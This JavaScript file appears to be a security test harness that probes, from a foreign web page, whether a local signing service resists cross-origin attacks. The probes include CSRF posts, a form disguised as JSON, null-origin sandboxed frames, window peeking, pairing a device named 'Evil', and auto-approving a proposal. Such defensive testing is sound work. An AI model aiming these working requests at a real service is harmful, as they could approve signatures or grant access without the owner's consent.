// What a page of another site can try. Each attempt answers "refused", "opaque" (sent, nothing readable), "sent" (a form),
// or what it got.
const WAIT_MS = 8000;

const late = (promise) =>
  Promise.race([promise, new Promise((done) => setTimeout(() => done("refused"), WAIT_MS))]);

const read = async (url, options) => {
  const answer = await fetch(url, options);
  if (answer.type === "opaque" || answer.type === "opaqueredirect") return "opaque";
  return `read ${answer.status}: ${(await answer.text()).slice(0, 80)}`;
};

// An element that loads, or does not.
const loads = (tag, fields) =>
  new Promise((done) => {
    const element = document.createElement(tag);
    element.onload = () => done("loaded");
    element.onerror = () => done("refused");
    Object.assign(element, fields);
    document.body.append(element);
  });

// A frame of theirs that cannot be seen into shows nothing, or an error of the browser's own.
const frames = (url) =>
  new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.onload = () => {
      try {
        const text = frame.contentDocument.body.innerText;
        done(text ? `read ${text.slice(0, 80)}` : "refused");
      } catch {
        // Another origin, or the browser's page that says that it was blocked: its length tells how many frames it has.
        done(frame.contentWindow.length === 0 ? "refused" : "framed");
      }
    };
    frame.src = url;
    document.body.append(frame);
  });

const posts = (url, enctype, fields) =>
  new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = `to-${Math.random()}`;
    const form = document.createElement("form");
    Object.assign(form, { method: "post", action: url, enctype, target: frame.name });
    for (const [name, value] of Object.entries(fields)) {
      const field = document.createElement("input");
      Object.assign(field, { type: "hidden", name, value });
      form.append(field);
    }
    document.body.append(frame, form);
    frame.onload = () => {
      try {
        const text = frame.contentDocument.body.innerText;
        done(text ? `read ${JSON.parse(text).status}` : "sent");
      } catch {
        done("sent");
      }
    };
    form.submit();
  });

const opens = (make, opened) =>
  new Promise((done) => {
    const one = make();
    one[opened] = () => done("opened");
    one.onmessage = (event) => done(`read ${event.data}`);
    one.onerror = () => done("refused");
  });

// A frame without an origin of its own: what it sends says "Origin: null".
const sandboxed = (script) =>
  new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-scripts allow-forms");
    window.addEventListener("message", (event) => event.source === frame.contentWindow && done(event.data));
    frame.srcdoc = `<script>(async () => { let found; try { ${script} } catch { found = "refused"; } parent.postMessage(found, "*"); })()<\/script>`;
    document.body.append(frame);
  });

const peeks = async (url) => {
  const other = window.open(url);
  if (other === null) return "refused";
  try {
    // Empty and ours until the other page has come.
    for (let waited = 0; waited < WAIT_MS; waited += 200) {
      other.postMessage({ approve: true }, "*");
      const text = other.document.body.innerText;
      if (text) return `read ${text.slice(0, 400)}`;
      await new Promise((done) => setTimeout(done, 200));
    }
    return "refused";
  } catch {
    return "refused";
  } finally {
    other.close();
  }
};

const attack = async (target, digest) => {
  const yes = JSON.stringify({ digest, acknowledged: [] });
  const form = `digest=${digest}`;
  const wish = JSON.stringify({ name: "Evil", rights: ["approve"] });
  const urlencoded = { "Content-Type": "application/x-www-form-urlencoded" };
  const plain = { "Content-Type": "text/plain" };
  const json = { "Content-Type": "application/json" };
  const attempts = {};
  for (const path of ["/", "/proposals/p-1", "/v1/devices", "/v1/status", "/v1/openapi.json", "/v1/events", "/static/page.js"]) {
    for (const credentials of ["include", "omit"]) {
      attempts[`fetch ${path} ${credentials}`] = () => read(target + path, { credentials });
    }
    attempts[`no-cors ${path}`] = () => read(target + path, { mode: "no-cors", credentials: "include" });
    attempts[`cached ${path}`] = () => read(target + path, { cache: "force-cache", credentials: "include" });
    attempts[`from the cache alone ${path}`] = () => read(target + path, { cache: "only-if-cached", mode: "same-origin" });
  }
  for (const [path, body] of [
    ["/v1/proposals/p-1/approve", yes],
    ["/v1/pairings", wish],
    ["/v1/origins", JSON.stringify({ origin: location.origin })],
    ["/v1/page/entry", ""],
    ["/proposals/p-1/approve", form],
    ["/apps/origins/let-in", `origin=${encodeURIComponent(location.origin)}`],
    ["/leave", ""],
  ]) {
    const common = { method: "POST", credentials: "include", body };
    attempts[`simple text ${path}`] = () => read(target + path, { ...common, mode: "no-cors", headers: plain });
    attempts[`simple form ${path}`] = () => read(target + path, { ...common, mode: "no-cors", headers: urlencoded });
    attempts[`preflight json ${path}`] = () => read(target + path, { ...common, headers: json });
    attempts[`preflight token ${path}`] = () =>
      read(target + path, { ...common, headers: { ...json, Authorization: "Bearer x", "X-Signerd-Session": "x" } });
    attempts[`form ${path}`] = () => posts(target + path, "application/x-www-form-urlencoded", { digest });
    // A form of text that reads as JSON.
    attempts[`form as json ${path}`] = () => posts(target + path, "text/plain", { [`${body.slice(0, -1)},"x":"`]: '"}' });
    attempts[`beacon ${path}`] = async () => (navigator.sendBeacon(target + path, body), "sent");
  }
  attempts["enter by a guess"] = () => posts(`${target}/enter`, "application/x-www-form-urlencoded", { code: "00000-00000" });
  attempts["DELETE"] = () => read(`${target}/v1/session`, { method: "DELETE", credentials: "include" });
  attempts["private network"] = () =>
    read(`${target}/v1/devices`, { credentials: "include", headers: json, targetAddressSpace: "loopback" });
  attempts["image"] = () => loads("img", { src: `${target}/static/icon.svg` });
  attempts["script"] = () => loads("script", { src: `${target}/static/page.js` });
  attempts["data as script"] = () => loads("script", { src: `${target}/v1/devices` });
  attempts["style"] = () => loads("link", { rel: "stylesheet", href: `${target}/static/style.css` });
  attempts["frame"] = () => frames(`${target}/proposals/p-1`);
  attempts["socket"] = () => opens(() => new WebSocket(`${target.replace("http", "ws")}/v1/events`), "onopen");
  attempts["events"] = () =>
    opens(() => new EventSource(`${target}/v1/events?after=0`, { withCredentials: true }), "onopen");
  attempts["window"] = () => peeks(`${target}/proposals/p-1`);
  attempts["service worker"] = async () => {
    await navigator.serviceWorker.register(`${target}/static/page.js`);
    return "registered";
  };
  attempts["null origin"] = () => sandboxed(`found = await (await fetch("${target}/v1/devices")).text();`);
  attempts["null origin posts"] = () =>
    sandboxed(`await fetch("${target}/v1/pairings", { method: "POST", mode: "no-cors", body: '${wish}' }); found = "sent";`);

  const names = Object.keys(attempts);
  const results = await Promise.all(
    names.map((name) => late((async () => attempts[name]())().catch(() => "refused"))),
  );
  return Object.fromEntries(names.map((name, index) => [name, results[index]]));
};
